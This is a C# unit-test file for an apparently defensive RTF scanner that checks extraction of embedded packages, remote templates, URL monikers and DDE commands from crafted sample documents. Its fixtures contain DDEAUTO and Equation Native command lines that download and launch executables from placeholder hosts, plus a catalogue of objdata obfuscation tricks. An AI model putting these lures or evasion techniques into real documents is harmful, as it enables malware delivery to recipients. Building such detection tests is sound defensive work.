using System.Text;
using Lurewatch.Containers;
using Lurewatch.Files;
using Lurewatch.Files.Rtf;
using Lurewatch.Samples;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files.Rtf;

public sealed class RtfHandlerTests
{
    private static readonly byte[] s_script = Encoding.ASCII.GetBytes("var x = new ActiveXObject('WScript.Shell'); // https://one.example/a.txt\r\n");

    private static Analysis Scan(byte[] file) => new MailScanner(new ScanOptions { Strict = true }).Scan(file, "Order.doc");

    private static Analysis Scan(string content) => Scan(RtfWriter.Document(content));

    private static RtfFacts Facts(Analysis analysis) => analysis.Artifacts[0].Facts.ShouldBeOfType<RtfFacts>();

    private static IEnumerable<string> Kinds(Analysis analysis) => analysis.Findings.Select(finding => finding.Kind.Id);

    private static IEnumerable<string> Downloads(Analysis analysis) => analysis.Indicators.Where(indicator => indicator.Role == "download-url").Select(indicator => indicator.Value);

    [Fact]
    public void A_package_s_file_comes_out_with_its_names()
    {
        var analysis = Scan(RtfWriter.Object("Package", RtfWriter.Embedded("Package", RtfWriter.Package("order.js", s_script))));
        var held = Facts(analysis).Objects.ShouldHaveSingleItem();
        (held.Class, held.Kind, held.FileName, held.SourcePath).ShouldBe(("Package", "package", "order.js", @"C:\Users\user\Documents\order.js"));
        var inside = analysis.Artifacts.Single(file => file.Origin == "embedded");
        inside.Name.ShouldBe("order.js");
        inside.Bytes.ToArray().ShouldBe(s_script);
        Downloads(analysis).ShouldContain("https://one.example/a.txt");
        Kinds(analysis).ShouldContain("rtf.embedded-program");
        Kinds(analysis).ShouldNotContain("rtf.obfuscated");
    }

    [Fact]
    public void A_url_moniker_is_where_the_document_fetches_from()
    {
        var analysis = Scan(RtfWriter.Object("Word.Document.8", RtfWriter.Embedded("OLE2Link", RtfWriter.UrlMoniker("http://two.example/template.hta")), "\\objautlink\\objupdate"));
        var held = Facts(analysis).Objects.ShouldHaveSingleItem();
        (held.Class, held.Kind, held.Updates).ShouldBe(("OLE2Link", "compound", true));
        held.RootClass.ShouldBe(new Guid("00000300-0000-0000-C000-000000000046"));
        Downloads(analysis).ShouldContain("http://two.example/template.hta");
        Kinds(analysis).ShouldBeSubsetOf([.. Kinds(analysis).Where(kind => !kind.StartsWith("rtf.", StringComparison.Ordinal)), "rtf.external-object", "rtf.object-updates-itself"]);
        analysis.Artifacts.Single(file => file.Origin == "embedded").Steps.ShouldBe(["objupdate"]);
    }

    [Fact]
    public void A_linked_object_leads_to_its_topic()
    {
        Downloads(Scan(RtfWriter.Object("Word.Document.8", RtfWriter.Linked("Word.Document.8", "http://two.example/a.doc"), "\\objautlink"))).ShouldContain("http://two.example/a.doc");
    }

    [Theory]
    [InlineData(@"{\*\template http://three.example/t.dotm}")]
    [InlineData(@"{\*\template http://three.exa{\b mple/t}.dotm}")]
    [InlineData(@"{\*\template \u104?\u116?\u116?\u112?://three.example/t.dotm}")]
    [InlineData(@"{\*\template \'68ttp://three.example/t.dotm}")]
    public void A_template_from_elsewhere_is_fetched_however_it_is_spelled(string template)
    {
        var analysis = Scan(template + "Please wait");
        Facts(analysis).Template.ShouldBe("http://three.example/t.dotm");
        Downloads(analysis).ShouldContain("http://three.example/t.dotm");
        Kinds(analysis).ShouldContain("rtf.external-template");
    }

    [Fact]
    public void Fields_give_links_commands_and_what_they_load()
    {
        var analysis = Scan(@"{\field{\*\fldinst HYPERLINK ""https://four.example/view""}{\fldrslt View}}{\field{\*\fldinst {INCLUDEPICTURE ""http://five.example/p.png"" \\d}}{\fldrslt }}"
            + @"{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ""/k curl http://six.example/a -o a.exe"" }{\fldrslt }}");
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "https://four.example/view" && indicator.Role == "link");
        Downloads(analysis).ShouldContain("http://five.example/p.png");
        Downloads(analysis).ShouldContain("http://six.example/a");
        Encoding.UTF8.GetString(analysis.Artifacts.Single(file => file.Origin == "command").Bytes.Span).ShouldBe(@"c:\windows\system32\cmd.exe /k curl http://six.example/a -o a.exe");
        Kinds(analysis).ShouldContain("rtf.field-command");
    }

    [Fact]
    public void Characters_that_QUOTE_spells_out_are_put_into_the_field_around_it()
    {
        var analysis = Scan(@"{\field{\*\fldinst DDEAUTO {\field{\*\fldinst QUOTE 99 109 100}{\fldrslt x}} ""/c calc""}{\fldrslt }}");
        Encoding.UTF8.GetString(analysis.Artifacts.Single(file => file.Origin == "command").Bytes.Span).ShouldBe("cmd /c calc");
    }

    public static TheoryData<string, string> Disguises()
    {
        var hex = RtfWriter.Hex(RtfWriter.Embedded("Package", RtfWriter.Package("order.js", s_script))).Replace("\r\n", "", StringComparison.Ordinal);
        var (one, two) = (hex[..41], hex[41..]);
        return new()
        {
            { "blanks", $"{{\\object{{\\*\\objdata {string.Join(" \t\r\n", hex.Chunk(3).Select(part => new string(part)))}}}}}" },
            { "upper case", $"{{\\object{{\\*\\objdata {hex.ToUpperInvariant()}}}}}" },
            { "control words", $"{{\\object{{\\*\\objdata {one}\\par\\fnil {two}}}}}" },
            { "an ignored destination", $"{{\\object{{\\*\\objdata {one}{{\\*\\unknown abcdef}}{two}}}}}" },
            { "a group", $"{{\\object{{\\*\\objdata {one}{{{two}}}}}}}" },
            { "a group with a word", $"{{\\object{{\\*\\objdata {one}{{\\b {two}}}}}}}" },
            { "control symbols", $"{{\\object{{\\*\\objdata {one}\\'41\\-{two}}}}}" },
            { "no star, no object", $"{{\\objdata {hex}}}" },
            { "no end", $"{{\\object{{\\*\\objdata {hex}" },
            { "inside of another destination", $"{{\\object{{\\*\\footerr{{\\binN\\rsid1}}\\objdata {hex}}}}}" },
            { "bin", $"{{\\object{{\\*\\objdata\\bin{hex.Length / 2} {Encoding.Latin1.GetString(Convert.FromHexString(hex))}}}}}" },
        };
    }

    [Theory]
    [MemberData(nameof(Disguises))]
    public void An_object_is_read_through(string disguise, string content)
    {
        foreach (var file in new[] { RtfWriter.Document(content), Encoding.Latin1.GetBytes("{\\rt" + content) })
            Scan(file).Artifacts.ShouldContain(inside => inside.Origin == "embedded" && inside.Name == "order.js", disguise);
    }

    [Theory]
    [InlineData("control words")]
    [InlineData("a group")]
    [InlineData("control symbols")]
    public void Such_a_disguise_is_evidence(string disguise)
    {
        var content = Disguises().Single(row => row.Data.Item1 == disguise).Data.Item2;
        Kinds(Scan(RtfWriter.Document(content))).ShouldContain("rtf.obfuscated");
    }

    [Fact]
    public void A_compound_file_is_found_behind_a_broken_head_and_out_of_step()
    {
        var compound = CfbWriter.Write([("Equation Native", "cmd.exe /c start http://seven.example/x.exe AAAA"u8.ToArray())], new Guid("0002CE02-0000-0000-C000-000000000046"));
        var analysis = Scan($"{{\\object\\objupdate{{\\*\\objdata 123{RtfWriter.Hex(compound)}}}}}");
        var held = Facts(analysis).Objects.ShouldHaveSingleItem();
        (held.Kind, held.IsEquation).ShouldBe(("compound", true));
        Downloads(analysis).ShouldContain("http://seven.example/x.exe");
        Kinds(analysis).ShouldContain("rtf.equation-object");
    }

    [Fact]
    public void Pictures_and_what_follows_the_document_come_out()
    {
        byte[] png = [0x89, .. "PNG\r\n\u001a\n"u8, .. new byte[40]];
        var analysis = Scan([.. RtfWriter.Document($"{{\\pict\\pngblip {RtfWriter.Hex(png)}}}"), .. "MZ this is not a program but it follows the end of the document"u8]);
        analysis.Artifacts.ShouldContain(file => file.Origin == "image" && file.Type == FileType.Png);
        analysis.Artifacts.ShouldContain(file => file.Origin == "appended");
    }

    [Fact]
    public void An_ordinary_document_has_text_and_properties_and_no_finding()
    {
        var analysis = Scan(@"{\info{\title Angebot}{\author Max}{\company Beispiel}}Guten Tag, siehe https://eight.example/seite");
        var facts = Facts(analysis);
        (facts.Title, facts.Author, facts.Company).ShouldBe(("Angebot", "Max", "Beispiel"));
        facts.Text.ShouldContain("Guten Tag");
        facts.Obfuscation.ShouldBeEmpty();
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "https://eight.example/seite" && indicator.Role == "link");
        Kinds(analysis).ShouldNotContain(kind => kind.StartsWith("rtf.", StringComparison.Ordinal));
    }

    [Fact]
    public void Groups_without_end_stop_nothing()
    {
        foreach (var piece in (ReadOnlySpan<string>)["{", "{\\object", "{\\*\\objdata ", "{\\field{\\*\\fldinst ", "\\bin999999999 ", "}", "{\\pict "])
            Facts(Scan(Encoding.Latin1.GetBytes("{\\rtf1" + string.Concat(Enumerable.Repeat(piece, 20_000)))));
    }
}
